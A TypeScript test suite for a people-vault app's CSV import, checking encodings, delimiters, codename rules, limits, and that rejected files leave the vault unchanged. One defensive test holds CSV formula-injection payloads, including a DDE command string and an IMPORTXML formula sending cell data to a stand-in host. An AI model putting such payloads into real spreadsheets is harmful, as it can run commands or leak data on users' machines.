/**
 * Importing people from CSV through the IPC contract (dispatch → handlers → vault): the good
 * files NGOs actually have (Excel's UTF-8 with a BOM, Russian Excel's Windows-1251 with
 * semicolons, quoted multi-line cells), and every bad input of the issue, each proving the
 * vault is unchanged — same people, and the same bytes on disk.
 */
import { vaultBytes } from '../helpers/vaults.ts';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { MAX_IMPORT_BYTES, type Input, type Output } from '../../shared/contract.ts';
import {
  IMPORT_SAMPLE_ROWS,
  MAX_IMPORT_PROBLEMS,
  MAX_IMPORT_ROWS,
  type ImportMapping,
} from '../../shared/import.ts';
import { revealsName } from '../../electron/core/services/codenames.ts';
import { allPersons, openTestVault } from '../helpers/domain.ts';
import { useTempDir } from '../helpers/temp-dir.ts';

const tempDir = useTempDir('confidant-import-');
const FIXTURES = join(import.meta.dirname, '../fixtures/import');

type Api = Awaited<ReturnType<typeof openTestVault>>;

function fixture(name: string): Buffer {
  return readFileSync(join(FIXTURES, name));
}

function file(
  bytes: Buffer | string,
  fileName = 'people.csv',
  encoding: Input<'import:preview'>['encoding'] = 'auto',
) {
  return {
    fileName,
    base64: Buffer.from(bytes).toString('base64'),
    encoding,
  };
}

function preview(api: Api, bytes: Buffer | string, options: PreviewOptions = {}) {
  return api.call('import:preview', {
    ...file(bytes, options.fileName, options.encoding),
    ...(options.mapping ? { mapping: options.mapping } : {}),
  });
}

interface PreviewOptions {
  fileName?: string;
  encoding?: Input<'import:preview'>['encoding'];
  mapping?: ImportMapping;
}

async function commit(api: Api, bytes: Buffer | string, options: PreviewOptions = {}) {
  const mapping = options.mapping ?? (await preview(api, bytes, options)).mapping;
  return api.call('import:commit', {
    ...file(bytes, options.fileName, options.encoding),
    mapping,
  });
}

async function people(api: Api) {
  return allPersons(api, { sort: 'name' });
}

async function personNamed(api: Api, fullName: string) {
  const row = (await people(api)).find((person) => person.fullName === fullName);
  if (!row) throw new Error(`no person ${fullName}`);
  return (await api.call('persons:get', { id: row.id })).person;
}

/** Runs `act` (which must fail with `code`) and proves the vault did not change. */
async function expectRefusedUnchanged(
  api: Api,
  code: string,
  act: () => Promise<unknown>,
): Promise<Record<string, string | number>> {
  const before = {
    total: (await api.call('persons:list', {})).total,
    bytes: vaultBytes(api.path),
  };
  const agenciesBefore = (await api.call('agencies:list', {})).rows.length;
  const error = (await act().then(
    () => {
      throw new Error(`expected ${code}`);
    },
    (caught: unknown) => caught,
  )) as { code: string; details: Record<string, string | number> };
  expect(error.code).toBe(code);
  expect((await api.call('persons:list', {})).total).toBe(before.total);
  expect((await api.call('agencies:list', {})).rows.length).toBe(agenciesBefore);
  expect(vaultBytes(api.path).equals(before.bytes)).toBe(true);
  return error.details;
}

function csv(lines: string[]): string {
  return `${lines.join('\r\n')}\r\n`;
}

describe('import: good files', () => {
  it('reads Excel’s UTF-8 with a BOM, maps English headers and labels, creates agencies, keeps or generates codenames', async () => {
    const api = await openTestVault(tempDir());
    const bytes = fixture('people-utf8-bom.csv');
    const shown = await preview(api, bytes);
    expect(shown.encoding).toBe('utf-8');
    expect(shown.delimiter).toBe(',');
    expect(shown.headers[0]).toBe('Full name'); // the BOM is not part of the first header
    expect(shown.mapping).toEqual({
      fullName: 0,
      codename: 1,
      position: 2,
      agency: 3,
      region: 4,
      sphere: 5,
      stage: 6,
      consent: 7,
      owner: 8,
      nextFollowUp: 9,
      tags: 10,
    });
    expect(shown.rowCount).toBe(3);
    expect(shown.problems).toEqual([]);
    expect(shown.moreProblems).toBe(0);
    expect(shown.newAgencies).toEqual([
      'Regional Directorate of the Migration Service',
      'Northern Province Court',
    ]);
    expect(shown.sample[0]).toMatchObject({
      line: 2,
      cells: { fullName: 'John Carver', tags: 'reform, asylum' },
    });
    // The preview wrote nothing.
    expect(await people(api)).toEqual([]);

    expect(await commit(api, bytes)).toEqual({
      imported: 3,
      agenciesCreated: 2,
      merged: 0,
      skipped: 0,
      otherColumnNotes: 0,
    });
    const carver = await personNamed(api, 'John Carver');
    expect(carver).toMatchObject({
      codename: 'Quiet Lantern 7',
      position: 'Deputy Director',
      agencyName: 'Regional Directorate of the Migration Service',
      sphere: 'migration',
      region: 'Northern Province',
      stage: 'in_contact',
      consent: 'trusted_partners',
      owner: 'Anna Gromova',
      nextFollowUp: '2026-04-02',
      tags: ['asylum', 'reform'],
    });
    const volkov = await personNamed(api, 'Алексей Волков');
    expect(volkov).toMatchObject({ sphere: 'migration', stage: 'watching', consent: 'not_asked' });
    expect(volkov.nextFollowUp).toBe('2026-06-30');
    expect(volkov.agencyId).toBe(carver.agencyId);
    const ellison = await personNamed(api, 'Mary Ellison');
    expect(ellison).toMatchObject({ sphere: 'judiciary', stage: 'vetting' });
    for (const person of [volkov, ellison]) {
      expect(person.codename).toMatch(/^[A-Z][a-z]+ [A-Z][a-z]+ \d{2}$/);
      expect(revealsName(person.codename, person.fullName)).toBe(false);
    }
    // Stage history and the search index are written as for a person made in the form.
    const page = await api.call('persons:get', { id: carver.id });
    expect(page.timeline.some((entry) => entry.type === 'stage')).toBe(true);
    const hits = await api.call('search:query', { text: 'carver', limit: 10 });
    expect(hits.hits.map((hit) => hit.id)).toContain(carver.id);
  });

  it('reads Russian Excel’s Windows-1251 with semicolons, Russian headers, Russian labels and dates, and matches agencies by name', async () => {
    const api = await openTestVault(tempDir());
    const existing = await api.call('agencies:create', {
      name: 'Прокуратура Южной области',
      sphere: 'prosecution',
    });
    const bytes = fixture('people-windows-1251-semicolon.csv');
    const shown = await preview(api, bytes);
    expect(shown.encoding).toBe('windows-1251');
    expect(shown.delimiter).toBe(';');
    expect(shown.headers).toContain('Следующий контакт');
    expect(shown.mapping).toMatchObject({ fullName: 0, rank: 2, agency: 3, tags: 10 });
    expect(shown.problems).toEqual([]);
    // One new agency per name whatever its case; the existing one is matched.
    expect(shown.newAgencies).toEqual([
      'Управление МВД по Северной области',
      'Областной суд Северной области',
    ]);

    expect(await commit(api, bytes)).toEqual({
      imported: 4,
      agenciesCreated: 2,
      merged: 0,
      skipped: 0,
      otherColumnNotes: 0,
    });
    const petrov = await personNamed(api, 'Петров Иван Сергеевич');
    expect(petrov).toMatchObject({
      rank: 'Полковник полиции',
      sphere: 'police',
      stage: 'in_contact',
      consent: 'internal',
      nextFollowUp: '2026-03-15',
      tags: ['реформа', 'семинары'],
    });
    const yolkin = await personNamed(api, 'Ёлкин Пётр Алексеевич');
    expect(yolkin).toMatchObject({
      agencyId: existing.id,
      sphere: 'prosecution',
      stage: 'collaborating',
      consent: 'trusted_partners',
      nextFollowUp: '2026-04-01',
    });
    const kuznetsova = await personNamed(api, 'Кузнецова Мария Павловна');
    expect(kuznetsova.agencyId).toBe(petrov.agencyId);
    expect(kuznetsova.nextFollowUp).toBe('2026-05-20');
    const agencies = (await api.call('agencies:list', {})).rows;
    expect(agencies.find((agency) => agency.id === petrov.agencyId)).toMatchObject({
      sphere: 'police',
      region: 'Северная область',
    });
  });

  it('reads UTF-8 without a BOM', async () => {
    const api = await openTestVault(tempDir());
    const shown = await preview(api, fixture('people-utf8.csv'), { encoding: 'utf-8' });
    expect(shown.encoding).toBe('utf-8');
    expect(shown.mapping).toEqual({ fullName: 0, position: 1, agency: 2, stage: 3, tags: 4 });
    expect(await commit(api, fixture('people-utf8.csv'))).toEqual({
      imported: 2,
      agenciesCreated: 2,
      merged: 0,
      skipped: 0,
      otherColumnNotes: 0,
    });
    expect(await personNamed(api, 'Орлова Наталья Игоревна')).toMatchObject({
      stage: 'approach_planned',
      tags: ['доклад', 'миграция'],
    });
    expect((await personNamed(api, 'Зайцев Дмитрий Олегович')).stage).toBe('dormant');
  });

  it('keeps quoted cells whole: delimiters, doubled quotes and line breaks inside', async () => {
    const api = await openTestVault(tempDir());
    const bytes = fixture('people-multiline.csv');
    const shown = await preview(api, bytes);
    expect(shown.rowCount).toBe(2);
    // Line numbers are the spreadsheet's rows, not lines of text.
    expect(shown.sample.map((row) => row.line)).toEqual([2, 3]);
    expect(await commit(api, bytes)).toEqual({
      imported: 2,
      agenciesCreated: 0,
      merged: 0,
      skipped: 0,
      otherColumnNotes: 0,
    });
    expect(await personNamed(api, 'Whitfield, Laura')).toMatchObject({
      position: 'Head of the "Open Courts" unit',
      needs: 'Training materials,\ntranslated into Russian',
      about: 'First line of the note.\n\nSecond paragraph, after an empty line.',
    });
    expect((await personNamed(api, 'Peter Holm')).about).toBe('One line; with a semicolon');
  });

  it('stores formula-looking cells as the plain text they are', async () => {
    const api = await openTestVault(tempDir());
    await commit(api, fixture('people-formulas.csv'));
    expect(await personNamed(api, 'Formula Tester')).toMatchObject({
      position: '=HYPERLINK("http://example.invalid/x","click")',
      region: '+1+1',
      owner: '@SUM(A1)',
      about: '-2+3',
    });
    expect(await personNamed(api, 'Second Tester')).toMatchObject({
      position: '=1+1',
      region: "=cmd|' /C calc'!A0",
      about: '=IMPORTXML(CONCAT("http://x.invalid/?",A1),"//a")',
    });
  });

  it('takes the user’s mapping over the suggested one', async () => {
    const api = await openTestVault(tempDir());
    const bytes = csv(['Сотрудник,Кабинет,Заметки', 'Иванов Иван,301,Знает всех']);
    const suggested = await preview(api, bytes);
    expect(suggested.mapping).toEqual({ about: 2 });
    // Without a name column every row lacks the name a person needs.
    expect(suggested.problems).toEqual([
      { line: 2, field: 'fullName', problem: 'required', value: '', limit: null },
    ]);
    const mapping = { fullName: 0, unit: 1, about: null };
    const shown = await preview(api, bytes, { mapping });
    expect(shown.mapping).toEqual(mapping);
    expect(shown.problems).toEqual([]);
    expect(shown.sample[0]?.cells).toEqual({ fullName: 'Иванов Иван', unit: '301' });
    await commit(api, bytes, { mapping });
    expect(await personNamed(api, 'Иванов Иван')).toMatchObject({ unit: '301', about: '' });
  });

  it('skips blank rows and reads the delimiter from Excel’s "sep=" line', async () => {
    const api = await openTestVault(tempDir());
    const bytes = 'sep=;\r\nФИО;Должность\r\nАнна Белова;Судья, председатель\r\n;\r\n\r\n';
    const shown = await preview(api, bytes);
    expect(shown.delimiter).toBe(';');
    expect(shown.rowCount).toBe(1);
    await commit(api, bytes);
    expect((await personNamed(api, 'Анна Белова')).position).toBe('Судья, председатель');
  });

  it('imports 10,000 rows in one transaction, quickly', async () => {
    const api = await openTestVault(tempDir());
    const rows = Array.from(
      { length: 10_000 },
      (_, i) =>
        `Person ${String(i)} Testov,Officer,Agency ${String(i % 50)},Region ${String(i % 7)},${i % 2 ? 'На связи' : 'watching'},${String((i % 28) + 1).padStart(2, '0')}.02.2026,"tag${String(i % 10)}, bulk"`,
    );
    const bytes = csv(['Name,Position,Agency,Region,Stage,Follow-up,Tags', ...rows]);
    const mapping = (await preview(api, bytes)).mapping;
    const started = performance.now();
    const result = await api.call('import:commit', { ...file(bytes), mapping });
    const elapsed = performance.now() - started;
    process.stdout.write(`import: 10,000 rows committed in ${elapsed.toFixed(0)} ms\n`);
    expect(result).toEqual({
      imported: 10_000,
      agenciesCreated: 50,
      merged: 0,
      skipped: 0,
      otherColumnNotes: 0,
    });
    expect((await api.call('persons:list', {})).total).toBe(10_000);
    const codenames = new Set((await people(api)).map((person) => person.codename.toLowerCase()));
    expect(codenames.size).toBe(10_000);
    expect(elapsed).toBeLessThan(8_000);
  }, 60_000);
});

describe('import: bad input leaves the vault unchanged', () => {
  async function vaultWithOnePerson(): Promise<Api> {
    const api = await openTestVault(tempDir());
    await api.call('persons:create', { fullName: 'Already Here', codename: 'Amber Heron 42' });
    return api;
  }

  it('reports over-long fields with their limit and imports nothing', async () => {
    const api = await vaultWithOnePerson();
    const longName = 'Я'.repeat(201);
    const bytes = csv([
      'Full name,Position,Tags,Agency',
      `${longName},Judge,,`,
      `Fine Person,${'p'.repeat(201)},${'t'.repeat(41)},${'A'.repeat(201)}`,
    ]);
    const shown = await preview(api, bytes);
    expect(shown.problems).toEqual([
      { line: 2, field: 'fullName', problem: 'tooLong', value: 'Я'.repeat(80), limit: 200 },
      { line: 3, field: 'agency', problem: 'tooLong', value: 'A'.repeat(80), limit: 200 },
      { line: 3, field: 'position', problem: 'tooLong', value: 'p'.repeat(80), limit: 200 },
      { line: 3, field: 'tags', problem: 'tooLong', value: 't'.repeat(41), limit: 40 },
    ]);
    const details = await expectRefusedUnchanged(api, 'IMPORT_BAD_ROWS', () =>
      commit(api, bytes, { mapping: shown.mapping }),
    );
    expect(details).toEqual({ file: 'people.csv', count: 2 });
  });

  it('reports dates that do not exist and values not on the lists', async () => {
    const api = await vaultWithOnePerson();
    const bytes = csv([
      'ФИО;Следующий контакт;Этап;Согласие;Сфера',
      'Иван Первый;31.02.2026;Наблюдаем;;',
      'Иван Второй;2026-13-01;;;',
      'Иван Третий;завтра;;;',
      'Иван Четвёртый;29.02.2028;Думаем;всем;Космос',
    ]);
    const shown = await preview(api, bytes);
    expect(shown.problems).toEqual([
      { line: 2, field: 'nextFollowUp', problem: 'invalidDate', value: '31.02.2026', limit: null },
      { line: 3, field: 'nextFollowUp', problem: 'invalidDate', value: '2026-13-01', limit: null },
      { line: 4, field: 'nextFollowUp', problem: 'invalidDate', value: 'завтра', limit: null },
      { line: 5, field: 'sphere', problem: 'unknownValue', value: 'Космос', limit: null },
      { line: 5, field: 'stage', problem: 'unknownValue', value: 'Думаем', limit: null },
      { line: 5, field: 'consent', problem: 'unknownValue', value: 'всем', limit: null },
    ]);
    await expectRefusedUnchanged(api, 'IMPORT_BAD_ROWS', () =>
      commit(api, bytes, { mapping: shown.mapping }),
    );
  });

  it('refuses duplicate codenames, within the file and against the vault, and codenames that give the name away', async () => {
    const api = await vaultWithOnePerson();
    const bytes = csv([
      'Full name,Codename',
      'First Person,Silver Fox 1',
      'Second Person,silver  fox 1',
      'Third Person,AMBER HERON 42',
      'Boris Kuznetsov,Kuznetsov Prime',
      'Fifth Person,!bad',
    ]);
    const shown = await preview(api, bytes);
    expect(shown.problems).toEqual([
      {
        line: 3,
        field: 'codename',
        problem: 'duplicateCodename',
        value: 'silver  fox 1',
        limit: null,
      },
      {
        line: 4,
        field: 'codename',
        problem: 'duplicateCodename',
        value: 'AMBER HERON 42',
        limit: null,
      },
      {
        line: 5,
        field: 'codename',
        problem: 'invalidCodename',
        value: 'Kuznetsov Prime',
        limit: null,
      },
      { line: 6, field: 'codename', problem: 'invalidCodename', value: '!bad', limit: null },
    ]);
    const details = await expectRefusedUnchanged(api, 'IMPORT_BAD_ROWS', () =>
      commit(api, bytes, { mapping: shown.mapping }),
    );
    expect(details.count).toBe(4);
  });

  it('refuses a UTF-8 file declared Windows-1251, and a Windows-1251 file declared UTF-8', async () => {
    const api = await vaultWithOnePerson();
    const utf8 = fixture('people-utf8.csv');
    const ansi = fixture('people-windows-1251-semicolon.csv');
    for (const act of [
      () => preview(api, utf8, { encoding: 'windows-1251' }),
      () => commit(api, utf8, { encoding: 'windows-1251', mapping: { fullName: 0 } }),
    ]) {
      expect(await expectRefusedUnchanged(api, 'IMPORT_ENCODING', act)).toEqual({
        file: 'people.csv',
        encoding: 'Windows-1251',
      });
    }
    // The same with Excel's BOM in front.
    await expectRefusedUnchanged(api, 'IMPORT_ENCODING', () =>
      preview(api, fixture('people-utf8-bom.csv'), { encoding: 'windows-1251' }),
    );
    for (const act of [
      () => preview(api, ansi, { encoding: 'utf-8' }),
      () => commit(api, ansi, { encoding: 'utf-8', mapping: { fullName: 0 } }),
    ]) {
      expect(await expectRefusedUnchanged(api, 'IMPORT_ENCODING', act)).toEqual({
        file: 'people.csv',
        encoding: 'UTF-8',
      });
    }
    // Declared right, both read.
    expect((await preview(api, ansi, { encoding: 'windows-1251' })).rowCount).toBe(4);
    expect((await preview(api, utf8, { encoding: 'utf-8' })).rowCount).toBe(2);
  });

  it('refuses a mapping without the full name', async () => {
    const api = await vaultWithOnePerson();
    const bytes = csv(['Position,Region', 'Judge,North']);
    for (const mapping of [{ position: 0 }, { fullName: null, position: 0 }]) {
      expect(
        await expectRefusedUnchanged(api, 'IMPORT_MISSING_COLUMNS', () =>
          commit(api, bytes, { mapping }),
        ),
      ).toEqual({ file: 'people.csv', fields: 'fullName' });
      await expectRefusedUnchanged(api, 'IMPORT_MISSING_COLUMNS', () =>
        preview(api, bytes, { mapping }),
      );
    }
    // A column that is not in the file.
    await expectRefusedUnchanged(api, 'VALIDATION', () =>
      commit(api, bytes, { mapping: { fullName: 5 } }),
    );
  });

  it(`refuses 100,000 rows (more than ${String(MAX_IMPORT_ROWS)})`, async () => {
    const api = await vaultWithOnePerson();
    const bytes = csv([
      'Full name',
      ...Array.from({ length: 100_000 }, (_, i) => `Person ${String(i)}`),
    ]);
    for (const act of [
      () => preview(api, bytes),
      () => commit(api, bytes, { mapping: { fullName: 0 } }),
    ]) {
      expect(await expectRefusedUnchanged(api, 'IMPORT_TOO_MANY_ROWS', act)).toEqual({
        file: 'people.csv',
        rows: 100_000,
        max: MAX_IMPORT_ROWS,
      });
    }
  });

  it('refuses spreadsheets that are not CSV text: .xlsx (ZIP), .xls (OLE), binary', async () => {
    const api = await vaultWithOnePerson();
    const xlsx = Buffer.concat([
      Buffer.from([0x50, 0x4b, 0x03, 0x04, 0x14, 0x00, 0x06, 0x00]),
      Buffer.from('[Content_Types].xml'),
    ]);
    const xls = Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0x00, 0x00]);
    const utf16 = Buffer.from('\ufeffName\r\nX\r\n', 'utf16le');
    for (const [bytes, fileName] of [
      [xlsx, 'people.xlsx'],
      [xls, 'people.xls'],
      [utf16, 'people.txt'],
    ] as const) {
      expect(
        await expectRefusedUnchanged(api, 'IMPORT_NOT_TEXT', () =>
          commit(api, bytes, { fileName, mapping: { fullName: 0 } }),
        ),
      ).toEqual({ file: fileName });
      await expectRefusedUnchanged(api, 'IMPORT_NOT_TEXT', () => preview(api, bytes, { fileName }));
    }
  });

  it('refuses an empty file, and a header with no rows under it', async () => {
    const api = await vaultWithOnePerson();
    for (const bytes of [
      '',
      '\r\n\r\n',
      '\ufeff',
      'Full name,Position\r\n',
      'Full name\r\n,\r\n  \r\n',
    ]) {
      await expectRefusedUnchanged(api, 'IMPORT_EMPTY', () => preview(api, bytes));
      await expectRefusedUnchanged(api, 'IMPORT_EMPTY', () =>
        commit(api, bytes, { mapping: { fullName: 0 } }),
      );
    }
  });

  it('refuses a file over the size limit', async () => {
    const api = await vaultWithOnePerson();
    const bytes = Buffer.alloc(MAX_IMPORT_BYTES + 1, 'a');
    expect(
      await expectRefusedUnchanged(api, 'IMPORT_TOO_LARGE', () => preview(api, bytes)),
    ).toEqual({ file: 'people.csv', maxMiB: 10 });
  });

  it('lists at most the first problems, counts the rest, and counts bad rows in the refusal', async () => {
    const api = await vaultWithOnePerson();
    const rows = Array.from(
      { length: 300 },
      (_, i) => `Person ${String(i)},${i % 3 ? '' : '31.04.2026'},Nowhere`,
    );
    const bytes = csv(['Name,Follow-up,Stage', ...rows]);
    const shown = await preview(api, bytes);
    expect(shown.problems).toHaveLength(MAX_IMPORT_PROBLEMS);
    expect(shown.problems.length + shown.moreProblems).toBe(400);
    expect(shown.sample).toHaveLength(IMPORT_SAMPLE_ROWS);
    const details = await expectRefusedUnchanged(api, 'IMPORT_BAD_ROWS', () =>
      commit(api, bytes, { mapping: shown.mapping }),
    );
    expect(details.count).toBe(300);
  });

  it('reports a quoted cell that never ends instead of swallowing the rest of the file', async () => {
    const api = await vaultWithOnePerson();
    const bytes = csv([
      'Name,About',
      'Good Person,fine',
      'Bad Person,"starts quoted',
      'Lost Person,x',
    ]);
    const shown = await preview(api, bytes);
    expect(shown.problems).toEqual([
      expect.objectContaining({ line: 3, field: 'fullName', problem: 'invalid' }),
    ]);
    await expectRefusedUnchanged(api, 'IMPORT_BAD_ROWS', () =>
      commit(api, bytes, { mapping: shown.mapping }),
    );
  });

  it('imports nothing when one row of many is bad', async () => {
    const api = await vaultWithOnePerson();
    const rows = Array.from({ length: 500 }, (_, i) => `Person ${String(i)},Officer`);
    rows[499] = `${'x'.repeat(250)},Officer`;
    const bytes = csv(['Name,Position', ...rows]);
    const shown: Output<'import:preview'> = await preview(api, bytes);
    expect(shown.problems).toEqual([
      expect.objectContaining({ line: 501, field: 'fullName', problem: 'tooLong' }),
    ]);
    await expectRefusedUnchanged(api, 'IMPORT_BAD_ROWS', () =>
      commit(api, bytes, { mapping: shown.mapping }),
    );
  });
});
